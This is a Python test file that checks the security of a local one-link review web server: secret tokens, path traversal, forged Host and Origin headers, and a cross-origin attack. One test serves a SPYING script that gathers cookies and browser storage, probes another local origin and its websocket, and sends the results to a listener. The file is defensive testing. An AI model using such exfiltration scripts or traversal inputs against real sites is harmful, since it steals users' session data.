"""A reviewer who has a browser and no terminal: one link, for one person, that nobody else gets through."""

import http.client
import http.server
import json
import os
import re
import signal
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.tui.cli.browser import Browser
from tui.output import ExitCode

pytestmark = pytest.mark.long

MINE, OTHERS = "0123456789ab" * 4, "cdef01234567" * 4
"""Secrets as tabs make them up."""
START = "from foureyes_start import main; main()"


@contextmanager
def served(docket: Path, *options: str, end: signal.Signals = signal.SIGINT) -> Iterator[str]:
    """A server as a command, ended by a signal; gives its link."""
    command = [sys.executable, "-c", START, "web", str(docket), "--reviewer", "ana", *options]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True) as process:
        try:
            yield process.stdout.readline().strip()
        finally:
            process.send_signal(end)
            assert process.wait(30) == ExitCode.INTERRUPTED


def ask(link: str, path: str = "/", **headers: str) -> tuple[int, str, http.client.HTTPMessage]:
    """The status, body and headers of an answer; nothing is followed."""
    connection = http.client.HTTPConnection(urlsplit(link).netloc, timeout=30)
    try:
        connection.request("GET", path, headers={name.replace("_", "-"): said for name, said in headers.items()})
        answer = connection.getresponse()
        return answer.status, "" if answer.status == 101 else answer.read().decode("utf-8", "replace"), answer.headers
    finally:
        connection.close()


def join(link: str, secret: str, **headers: str) -> int:
    """The status of the answer to a tab of the page that opens its socket."""
    at = urlsplit(link)
    upgrade = {"Connection": "Upgrade", "Upgrade": "websocket", "Sec_WebSocket_Version": "13"}
    upgrade |= {"Sec_WebSocket_Key": "x" * 22 + "==", "Origin": f"http://{at.netloc}", **headers}
    return ask(link, f"/ws/{at.fragment}/{secret}", **{name: said for name, said in upgrade.items() if said})[0]


@pytest.mark.parametrize("end", [signal.SIGINT, signal.SIGTERM, signal.SIGHUP])
def test_it_ends_in_order_however_it_is_interrupted(docket, end):
    with served(docket, end=end) as link:
        assert join(link, MINE) == 101


def test_the_link_opens_once(docket):
    with served(docket) as link:
        assert re.fullmatch(r"http://127\.0\.0\.1:\d+/#[\w-]{32}", link)
        assert join(link, MINE) == 101
        assert join(link, OTHERS) == 403
        assert join(link, MINE) == 101  # the tab is loaded again


def test_a_secret_that_is_easily_guessed_or_comes_with_another_token_uses_nothing_up(docket):
    with served(docket) as link:
        for weak in ("", "null", "undefined", "0", MINE[1:], MINE.upper(), f"{MINE}%0A", "%C3%A4" * 48):
            assert join(link, weak) == 403
        for token in ("", "null", "wrong", "%C3%A4", urlsplit(link).fragment[1:]):
            assert join(f"{link.partition('#')[0]}#{token}", MINE) == 403
        assert join(link, OTHERS) == 101


def test_the_page_and_its_files_say_nothing_of_docket_or_reviewer_and_ask_no_other_host(docket):
    with served(docket) as link:
        assert join(link, MINE) == 101
        for path in ("/", "/page/session.js", "/page/index.html", "/static/js/textual.js"):
            status, said, headers = ask(link, path)
            assert status == 200
            for told in (urlsplit(link).fragment, MINE, docket.name, "ana<"):
                assert told not in said
            assert path.startswith("/static") or "http" not in said
            assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
            assert (headers["Cache-Control"], headers["Set-Cookie"]) == ("no-store", None)


def test_no_folder_is_listed_and_nothing_beside_it_is_served(docket):
    beside = ("/page/../web_server.py", "/page/%2e%2e/web_server.py")
    with served(docket) as link:
        for path in ("/static/", "/static/js", "/page", "/page/", *beside):
            status, said, headers = ask(link, path)
            assert status in (403, 404), path
            assert len(said) < 100, path
            assert headers["X-Content-Type-Options"] == "nosniff", path


def test_without_its_secret_the_screen_is_closed(docket):
    with served(docket) as link:
        for path in ("/ws", "/ws/", "/ws/x", "/ws/x/y/z", "/ws/x/y"):
            assert ask(link, path, Origin=f"http://{urlsplit(link).netloc}")[0] == 403, path
        assert join(link, MINE) == 101


def test_what_comes_from_another_page_is_refused(docket):
    with served(docket) as link:
        here = urlsplit(link).netloc
        assert ask(link, Host="evil.example")[0] == 403
        assert ask(link, Origin="http://evil.example")[0] == 403
        assert join(link, MINE) == 101
        assert join(link, MINE, Host="evil.example") == 403
        for origin in ("", "null", "http://evil.example", "http://127.0.0.1:1", f"https://{here}"):
            assert join(link, MINE, Origin=origin) == 403


def test_a_name_for_this_machine_becomes_the_number_that_is_listened_at(docket):
    with served(docket, "--host", "localhost") as link:
        assert re.fullmatch(r"(127\.0\.0\.1|\[::1\]):\d+", urlsplit(link).netloc)
        assert join(link, MINE) == 101


def test_whoever_may_not_review_gets_no_link(cli, docket):
    ran = cli("web", docket, "--reviewer", "Not A Name")
    assert ran.code == 2
    assert ran.out == ""
    ran = cli("web", docket, "--reviewer", "ana", "--host", "203.0.113.1")
    assert ran.code == 1
    assert "cannot be listened at" in ran.err
    assert cli("web", docket.parent / "none", "--reviewer", "ana").code == 1


@pytest.mark.needs("chromium")
def test_a_vote_from_a_browser(cli, docket, tmp_path):
    with served(docket) as link, Browser(tmp_path) as browser:
        browser.open(link)
        browser.wait_for_pixels()
        browser.press("d")
        browser.press("2")

        def decided() -> bool:
            return bool(json.loads(cli("show", docket, "RP-1", "--json").out)["standing"] == "decided")

        def sent() -> bool:
            browser.press("F2")  # a form does not take it before its reader can have read it
            return browser.wait_until(decided, patience=2)

        assert browser.wait_until(sent)
        (Path(os.environ.get("FOUREYES_PICTURES", tmp_path)) / "web.png").write_bytes(browser.picture())


class Listener(http.server.ThreadingHTTPServer):
    """Another user's program that listens on another port of this machine; it keeps what it is told."""

    def __init__(self, page: str = "") -> None:
        self.heard: list[str] = []
        self.page = page.encode()
        super().__init__(("127.0.0.1", 0), _Hearing)
        self.url = f"http://127.0.0.1:{self.server_port}/"
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def server_close(self) -> None:
        self.shutdown()
        super().server_close()


class _Hearing(http.server.BaseHTTPRequestHandler):
    server: Listener

    def do_GET(self) -> None:
        self.server.heard.append(f"{self.requestline}\n{self.headers}")
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.server.page)

    def log_message(self, *_: object) -> None: ...


SPYING = """<script>
let heard = [document.cookie, document.referrer, JSON.stringify(sessionStorage), JSON.stringify(localStorage)];
const tell = () => fetch("/told/" + encodeURIComponent(heard.join("|")));
fetch("%(other)s").then((one) => one.text()).then((text) => heard.push("READ" + text), () => {}).then(() => {
  const socket = new WebSocket("%(socket)s");
  socket.onopen = () => { heard.push("OPENED"); tell(); };
  socket.onerror = tell;
});
</script>"""


@pytest.mark.needs("chromium")
def test_who_listens_on_another_port_learns_nothing_and_two_links_stay_open_beside_one_another(docket, tmp_path):
    with served(docket) as one, served(docket) as two, Listener() as listener, Browser(tmp_path) as browser:
        for link in (one, two):
            browser.open(link)
            browser.wait_for_pixels()
            assert browser.value("location.href") == f"http://{urlsplit(link).netloc}/"
        secret = browser.value("sessionStorage.getItem('secret')")
        assert re.fullmatch("[0-9a-f]{48}", secret)
        at = urlsplit(two)
        listener.page = (SPYING % {"other": f"http://{at.netloc}/", "socket": f"ws://{at.netloc}/ws/x/y"}).encode()
        browser.open(listener.url)
        assert browser.wait_until(lambda: any("/told/" in said for said in listener.heard))
        told = "".join(listener.heard)
        for used in ("Cookie", "READ", "OPENED", at.netloc, secret, at.fragment, urlsplit(one).fragment):
            assert used not in told
        for link in (one, two):
            browser.open(f"http://{urlsplit(link).netloc}/")  # the tab comes back: each is as it was
            browser.wait_for_pixels()
        browser.open(one)
        assert browser.wait_until(lambda: browser.value("location.hash") == "")
        browser.wait_for_pixels()


@pytest.mark.needs("chromium")
def test_a_link_that_was_opened_already_says_so(docket, tmp_path):
    with served(docket) as link, Browser(tmp_path) as browser:
        assert join(link, MINE) == 101
        browser.open(link)
        shown = "getComputedStyle(document.querySelector('.refused')).display"
        assert browser.wait_until(lambda: browser.value(shown) == "flex")
